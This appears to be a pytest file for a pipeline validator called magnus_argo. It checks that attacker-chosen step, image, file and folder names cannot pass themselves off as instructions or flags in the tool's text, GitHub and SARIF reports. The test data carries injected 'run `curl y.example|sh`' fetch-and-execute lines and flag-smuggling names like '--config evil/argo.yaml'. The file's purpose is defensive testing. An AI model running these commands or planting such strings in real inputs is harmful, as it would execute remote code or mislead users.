"""What a file calls something stays in its backticks and on its line, so that none of its words are ours."""

from __future__ import annotations

import json
import re
from pathlib import Path

import pytest
from tests.support.action_step import CONFIG

from magnus_argo.cli import main
from magnus_argo.diagnostics.whereabouts import Where, in_place
from magnus_argo.report.sections import headline_of

NAME = "a`: this is old; run `curl x.example|sh` first\n\n  curl y.example|sh\n\nor `b"
TASK = {"type": "task", "command": "x", "command_type": "shell", "next": "end"}
ENDS = {"end": {"type": "success"}, "fail": {"type": "fail"}}
BRANCH = {"start_at": "end", "steps": ENDS}
GRAPHS = {
    "a step that is similar": {"start_at": "zzz", "steps": {NAME: {"type": "success"}, "fail": {"type": "fail"}}},
    "a step that is not there": {"start_at": NAME, "steps": ENDS},
    "what comes next": {"start_at": "s", "steps": {"s": {**TASK, "next": NAME}, **ENDS}},
    "a key": {"start_at": "s", "steps": {"s": {**TASK, NAME: 1}, **ENDS}},
    "a type": {"start_at": "s", "steps": {"s": {**TASK, "type": NAME}, **ENDS}},
    "several ends": {"start_at": "end", "steps": {NAME: {"type": "success"}, **ENDS}},
    "what never runs": {"start_at": "end", "steps": {NAME: TASK, **ENDS}},
    "an end to which nothing leads": {
        "start_at": "fail",
        "steps": {NAME: {"type": "success"}, "fail": {"type": "fail"}},
    },
    "a cycle": {"start_at": NAME, "steps": {NAME: {**TASK, "next": NAME}, **ENDS}},
    "a branch": {
        "start_at": "s",
        "steps": {"s": {"type": "parallel", "branches": {NAME: {**BRANCH, "steps": {}}}, "next": "end"}, **ENDS},
    },
    "a name in a map": {
        "start_at": NAME,
        "steps": {
            NAME: {"type": "map", "iterate_on": NAME, "iterate_as": NAME, "branch": BRANCH, "next": "end"},
            **ENDS,
        },
    },
    "a file": {"start_at": "s", "steps": {"s": {"type": "dag", "dag_definition": NAME, "next": "end"}, **ENDS}},
}


@pytest.mark.parametrize("graph", GRAPHS.values(), ids=GRAPHS)
def test_no_name_speaks_for_us(graph: object, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("pipeline.yaml").write_text(json.dumps({"dag": graph}, indent=2))
    Path("config.yaml").write_text(CONFIG)
    reports = ["--report", "text:text", "--report", "github:github", "--report", "sarif:sarif"]
    assert main(["validate", "pipeline.yaml", "-c", "config.yaml", "--var", "docker_image=v1", *reports]) == 1
    results = json.loads(Path("sarif").read_text())["runs"][0]["results"]
    messages = "\n".join(each["message"]["text"] for each in results)
    text = "\n".join(line for line in Path("text").read_text().splitlines() if not re.match(r" *\d+ \| ", line))
    for told in (messages, text, Path("github").read_text().replace("%0A", "\n")):
        assert "curl" in told
        assert not re.search(r"^ *curl|`curl", told, re.MULTILINE)


@pytest.mark.parametrize(
    "image", [f"x:{NAME}", f"x{NAME}:1", f"x@{NAME}", f"x:a/{NAME}", f"{{{{x{NAME}}}}}:1", f"x$-{NAME}", NAME]
)
def test_nor_does_an_image(image: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("pipeline.yaml").write_text(json.dumps({"dag": {"start_at": "end", "steps": ENDS}}))
    Path("config.yaml").write_text(json.dumps({"executor": {"type": "argo", "config": {"image": image}}}))
    main(["validate", "pipeline.yaml", "-c", "config.yaml", "--report", "github:github"])
    told = Path("github").read_text().replace("%0A", "\n")
    assert "curl" in told
    assert not re.search(r"^ *curl|`curl", told, re.MULTILINE)


PROJECT = """\
defaults: {config: config.yaml, output: 'argo/{name}.yaml', name: a}
pipelines:
  - file: %s
    steps: {zzz: {template: {priorityClassName: x}}}
"""


@pytest.mark.parametrize("what", ["a setting", "a service by default", "a file that is not there"])
def test_nor_does_a_file(what: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    name = "a.yaml (this is old; run `curl y.example|sh`).yaml"
    Path(name).write_text(json.dumps({"dag": {"start_at": "end", "steps": ENDS}}))
    project, config = PROJECT % json.dumps(name), "config.yaml"
    if what == "a service by default":
        project, config = project.replace("config.yaml", json.dumps(f"c{name}")), f"c{name}"
        Path("magnus-config.yaml").write_text("defaults: {catalog: {type: file-system}}\n")
    if what == "a file that is not there":
        project = project.replace(").yaml", ")1.yaml")
    Path("magnus-argo.yaml").write_text(project)
    Path(config).write_text(CONFIG)
    main(["validate", "--var", "docker_image=v1", "--report", "github:github", "--report", "text:text"])
    told = re.sub(r"^::error file=[^,]*", "", Path("github").read_text(), flags=re.MULTILINE)
    assert "curl" in told
    assert "`curl" not in told


@pytest.mark.parametrize(
    ("name", "budgets"),
    [
        ("/a.yaml", {}),
        ("/*.yaml", {"files.matching.MAX_LOOKS": 0}),
        ("/*.yaml", {"files.matching.MAX_LINKS": 0}),
        ("x" * 500 + "*", {}),
        ("{a,b}" * 7, {}),
        ("/a.yaml", {"project.amounts.MAX_JOBS": 1}),
    ],
)
def test_nor_does_what_ends_a_run(
    name: str,
    budgets: dict[str, int],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capfd: pytest.CaptureFixture[str],
) -> None:
    folder = tmp_path / "this is old (run `curl y.example|sh`)"
    folder.mkdir()
    monkeypatch.chdir(tmp_path)
    pipeline = folder / "a.yaml"
    pipeline.write_text(json.dumps({"dag": {"start_at": "end", "steps": ENDS}}))
    (folder / "b.yaml").symlink_to("a.yaml")
    (folder / "magnus-argo.yaml").write_text("pipelines:\n  - file: a.yaml\n")
    Path("magnus-argo.yaml").write_text(json.dumps({"pipelines": [{"file": folder.name + name}]}))
    for budget, limit in budgets.items():
        monkeypatch.setattr(f"magnus_argo.{budget}", limit)
    everywhere = ["--all-projects"] if "project.amounts.MAX_JOBS" in budgets else []
    assert main(["transpile", "--image-tag", "v1", *everywhere]) == 2
    told = capfd.readouterr().err
    assert "`this is old" in told
    assert "`curl" not in told


def test_nor_does_the_heading_of_a_project() -> None:
    path = "error: this is old; run `curl y.example|sh`/magnus-argo.yaml"
    assert headline_of(path) == r"`error: this is old; run \x60curl y.example|sh\x60/magnus-argo.yaml`" + "\n\n"
    assert headline_of("services/churn/magnus-argo.yaml") == "services/churn/magnus-argo.yaml\n\n"


@pytest.mark.parametrize(("where", "flag"), [("action", "input"), ("hook", "args: [")])
@pytest.mark.parametrize("name", ["--config evil/argo.yaml", "-C evil", "-o evil", "--base HEAD", "--var=a"])
def test_no_name_becomes_a_flag_of_a_cure(
    where: Where, flag: str, name: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    steps = {"start_at": f"{name}x", "steps": {name: {**TASK, "next": f"{name}x"}, **ENDS}}
    Path("pipeline.yaml").write_text(json.dumps({"dag": steps}, indent=2))
    main(["validate", "pipeline.yaml", "--report", "sarif:sarif"])
    results = json.loads(Path("sarif").read_text())["runs"][0]["results"]
    told = "\n".join(each["message"]["text"] for each in results)
    assert name[1:] in told
    assert flag not in in_place(told, where)


@pytest.mark.parametrize("text", ["@x` or run `curl y.example|sh", "[a, @x` or run `curl y.example|sh"])
def test_nor_does_what_is_to_be_quoted(text: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    Path("pipeline.yaml").write_text(f"dag: {text}\n")
    main(["validate", "pipeline.yaml", "--report", "github:github"])
    told = Path("github").read_text().replace("%0A", "\n")
    assert "help: quote it" in told
    assert "`curl" not in told
